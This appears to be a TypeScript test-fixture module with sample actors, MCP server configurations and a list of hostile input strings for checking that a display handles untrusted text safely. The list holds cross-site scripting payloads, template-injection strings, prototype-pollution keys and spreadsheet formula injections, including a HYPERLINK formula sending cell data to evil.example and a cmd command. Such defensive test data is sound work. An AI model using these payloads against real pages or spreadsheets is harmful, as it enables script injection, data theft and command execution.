import { HOSTILE_TEXT } from './sampleRecords.js';

/** Texts that run, break or turn around what shows them badly. */
export const HOSTILE_VALUES = [
  '</script><script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '"><svg onload=window.__pwned=3>',
  "' onmouseover='window.__pwned=4",
  '${window.__pwned = 5}{{constructor.constructor("window.__pwned=6")()}}',
  'javascript:window.__pwned=7',
  '<!--<script>',
  ']]>--><style>body{display:none}</style>',
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '__proto__',
  'constructor',
  HOSTILE_TEXT,
] as const;

/** Who acts, of what kind, and how often. */
export const ACTORS = [
  ['alice@example.com', 'user', 22],
  ['bob@example.com', 'user', 14],
  ['carol@example.com', 'user', 9],
  ['research-agent', 'agent', 26],
  ['billing-agent', 'agent', 15],
  ['nightly-sync', 'service', 11],
  ['mallory@example.com', 'user', 3],
] as const;

/** Servers, with what they offer and how often they are used. */
export const SERVERS = [
  {
    id: 'filesystem',
    version: '2026.8.31',
    address: 'npx server-filesystem',
    transport: 'stdio',
    tools: ['read_file', 'write_file', 'list_directory', 'search_files'],
    resources: ['file:///srv/data/customers.csv', 'file:///srv/data/prices.json', 'file:///etc/motd'],
    share: 40,
  },
  {
    id: 'billing',
    version: '1.4.2',
    address: 'https://billing.example/mcp',
    transport: 'streamable-http',
    tools: ['create_invoice', 'refund', 'get_customer'],
    resources: ['billing://invoices/2026', 'billing://customers'],
    share: 28,
  },
  {
    id: 'memory',
    version: '0.9.0',
    address: 'npx server-memory',
    transport: 'stdio',
    tools: ['search_nodes', 'create_entities'],
    resources: ['memory://graph'],
    share: 20,
  },
  {
    id: 'weather',
    version: '3.1.0',
    address: 'https://weather.example/mcp',
    transport: 'streamable-http',
    tools: ['forecast'],
    resources: ['weather://stations'],
    share: 12,
  },
] as const;

/** One of them. */
export type Server = (typeof SERVERS)[number];
